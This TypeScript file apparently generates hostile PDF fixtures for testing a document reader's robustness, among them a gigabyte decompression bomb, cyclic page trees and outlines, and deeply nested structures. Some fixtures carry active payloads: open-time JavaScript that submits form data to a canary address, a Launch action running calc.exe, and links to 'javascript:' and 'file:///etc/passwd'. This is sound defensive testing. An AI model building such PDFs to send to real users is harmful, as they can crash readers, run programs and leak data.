import { deflateSync } from 'node:zlib'
import { deflatedZeros } from './archives.ts'
import { type Bytes, type HostileFile, joined, readWhole, repeated, tameWords } from './hostile-file.ts'

/** A PDF of these objects, numbered from 1: the first is the catalogue, the second the root of the pages. */
function pdfOf(objects: ReadonlyArray<string | Uint8Array>, trailer = ''): Bytes {
  const parts: Array<string | Uint8Array> = ['%PDF-1.7\n']
  const starts: number[] = []
  let at = 9
  for (const [index, object] of objects.entries()) {
    starts.push(at)
    const whole = joined(`${index + 1} 0 obj\n`, object, '\nendobj\n')
    parts.push(whole)
    at += whole.byteLength
  }
  const table = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('')
  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`)
  parts.push(`trailer\n<</Size ${objects.length + 1}/Root 1 0 R ${trailer}>>\nstartxref\n${at}\n%%EOF\n`)
  return joined(...parts)
}

const stream = (content: string | Uint8Array, entries = ''): Bytes =>
  joined(`<<${entries}/Length ${typeof content === 'string' ? content.length : content.byteLength}>>stream\n`, content, '\nendstream')

const says = (text: string) => `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`
const zlibHeader = new Uint8Array([0x78, 0x9c])
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const page = (entries = '') => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R ${entries}>>`

/** A page of text; `catalogue` and `onPage` are entries of these, `more` further objects from 6 on. */
const onePage = ({
  catalogue = '',
  onPage = '',
  more = [],
  content = stream(says(tameWords)),
}: {
  readonly catalogue?: string
  readonly onPage?: string
  readonly more?: ReadonlyArray<string | Uint8Array>
  readonly content?: string | Uint8Array
} = {}): Bytes =>
  pdfOf([`<</Type/Catalog/Pages 2 0 R ${catalogue}>>`, '<</Type/Pages/Count 1/Kids[3 0 R]>>', page(onPage), content, font, ...more])

function manyPages(count: number): Bytes {
  const kids = Array.from({ length: count }, (_, index) => `${5 + index} 0 R`).join(' ')
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Count ${count}/Kids[${kids}]/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>>>`,
    font,
    stream(says(tameWords)),
    ...Array.from({ length: count }, () => '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>'),
  ])
}

/** Page-tree nodes each of which has the next for its one child. */
function deepTree(depth: number): Bytes {
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    ...Array.from({ length: depth }, (_, index) => `<</Type/Pages/Count 1/Kids[${index + 3} 0 R]>>`),
    `<</Type/Page/Parent ${depth + 1} 0 R/MediaBox[0 0 595 842]>>`,
  ])
}

const anyhow = { kinds: ['read', 'partial', 'refused', 'unreadable'] } as const
const tame = () => onePage()

export const pdfs: readonly HostileFile[] = [
  {
    does: 'has a page tree of 50,000 pages',
    name: '50,000 pages.pdf',
    make: () => manyPages(50_000),
    ends: { kinds: ['read', 'partial'] },
    tame: () => manyPages(3),
  },
  { does: 'has a page tree 50,000 nodes deep', name: 'deep tree.pdf', make: () => deepTree(50_000), ends: anyhow, tame },
  {
    does: 'has a page tree that holds itself',
    name: 'round tree.pdf',
    make: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 9/Kids[2 0 R 3 0 R 2 0 R]>>', page(), stream(says(tameWords)), font]),
    ends: anyhow,
    tame,
  },
  {
    does: 'claims two billion pages and has one',
    name: 'claimed pages.pdf',
    make: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 2000000000/Kids[3 0 R]>>', page(), stream(says(tameWords)), font]),
    ends: anyhow,
    tame,
  },
  {
    does: 'runs a script when it is opened, and on every page',
    name: 'scripts.pdf',
    make: (canary) =>
      onePage({
        catalogue: `/OpenAction<</S/JavaScript/JS(app.alert\\('x'\\); this.submitForm\\('${canary}/script'\\); app.launchURL\\('${canary}/launched'\\))>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>`,
        onPage: `/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>`,
        more: ['<</S/JavaScript/JS(app.alert\\(2\\))>>'],
      }),
    ends: readWhole,
    tame,
  },
  {
    does: 'starts a program and opens an address by itself',
    name: 'launch.pdf',
    make: (canary) =>
      onePage({
        catalogue: `/OpenAction<</S/Launch/F(calc.exe)/Next<</S/URI/URI(${canary}/opened)>>>>`,
        onPage: `/AA<</O<</S/GoToR/F(${canary}/remote.pdf)/D[0/Fit]>>>>`,
      }),
    ends: readWhole,
    tame,
  },
  {
    does: 'sends its form away',
    name: 'submit.pdf',
    make: (canary) =>
      onePage({
        catalogue: `/AcroForm<</Fields[6 0 R]>>/OpenAction<</S/SubmitForm/F<</FS/URL/F(${canary}/form)>>>>`,
        onPage: '/Annots[6 0 R]',
        more: [
          `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(secret)/Rect[72 600 200 620]/AA<</C<</S/JavaScript/JS(1)>>>>/A<</S/SubmitForm/F<</FS/URL/F(${canary}/form)>>>>>>`,
        ],
      }),
    ends: readWhole,
    tame,
  },
  {
    does: 'links to scripts and files',
    name: 'links.pdf',
    make: () =>
      onePage({
        onPage: '/Annots[6 0 R 7 0 R]',
        more: ['javascript:alert(1)', 'file:///etc/passwd'].map(
          (uri) => `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${uri.replaceAll(/[()]/gu, '\\$&')})>>>>`,
        ),
      }),
    ends: readWhole,
    tame,
  },
  {
    does: 'has a page that inflates to a gigabyte',
    name: 'inflating page.pdf',
    make: () =>
      onePage({
        content: stream(deflateSync(joined(zlibHeader, deflatedZeros(1 << 30)), { level: 9 }), '/Filter[/FlateDecode/FlateDecode]'),
      }),
    ends: anyhow,
    tame,
  },
  {
    does: 'has pictures of a hundred thousand pixels a side',
    name: 'giant picture.pdf',
    make: () =>
      onePage({
        content: stream('q 500 0 0 500 0 0 cm /X Do Q'),
        onPage: '/Resources<</XObject<</X 6 0 R>>>>',
        more: [stream('x', '/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB')],
      }),
    ends: anyhow,
    tame,
  },
  {
    does: 'draws forms that draw one another',
    name: 'round forms.pdf',
    make: () => {
      const form = (other: number) =>
        stream('/X Do '.repeat(100), `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${other} 0 R>>>>`)
      return onePage({ content: stream('/X Do '), onPage: '/Resources<</XObject<</X 6 0 R>>>>', more: [form(7), form(6)] })
    },
    ends: anyhow,
    tame,
  },
  {
    does: 'draws ten forms that draw ten forms, twelve times over',
    name: 'forms without end.pdf',
    make: () =>
      onePage({
        content: stream('/X Do '.repeat(10)),
        onPage: '/Resources<</XObject<</X 6 0 R>>>>',
        more: Array.from({ length: 12 }, (_, level) =>
          level === 11
            ? stream(says('x'), '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>')
            : stream('/X Do '.repeat(10), `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${level + 7} 0 R>>>>`),
        ),
      }),
    ends: anyhow,
    tame,
  },
  {
    does: 'has 100,000 arrays inside one another',
    name: 'deep arrays.pdf',
    make: () => onePage({ catalogue: `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
    ends: anyhow,
    tame,
  },
  {
    does: 'has an outline that goes round',
    name: 'round outline.pdf',
    make: () =>
      onePage({
        catalogue: '/Outlines 6 0 R',
        more: [
          '<</Type/Outlines/First 7 0 R/Last 8 0 R/Count 2>>',
          '<</Title(one)/Parent 6 0 R/Next 8 0 R/First 7 0 R/Dest[3 0 R/Fit]>>',
          '<</Title(two)/Parent 6 0 R/Next 7 0 R/First 6 0 R/Dest[3 0 R/Fit]>>',
        ],
      }),
    ends: { kinds: ['read', 'partial'] },
    tame,
  },
  {
    does: 'has cross-reference tables that name one another',
    name: 'round references.pdf',
    make: () =>
      pdfOf(
        ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>', page(), stream(says(tameWords)), font],
        '/Prev 9/XRefStm 9',
      ),
    ends: anyhow,
    tame,
  },
  {
    does: 'has a million letters in one place',
    name: 'one place.pdf',
    make: () => onePage({ content: stream(joined('BT /F1 1 Tf 72 720 Td ', repeated('(x) Tj ', 2_000_000), ' ET')) }),
    ends: anyhow,
    tame,
  },
  {
    does: 'has 100,000 links over one another on a page of text',
    name: 'links without end.pdf',
    make: () =>
      onePage({
        content: stream(`BT /F1 8 Tf 12 TL 20 800 Td ${`(${'word '.repeat(30)}) Tj T* `.repeat(60)} ET`),
        onPage: `/Annots[${'6 0 R '.repeat(100_000)}]`,
        more: ['<</Type/Annot/Subtype/Link/Rect[900 900 901 901]/A<</S/URI/URI(https://example.org)>>>>'],
      }),
    ends: anyhow,
    tame,
  },
]
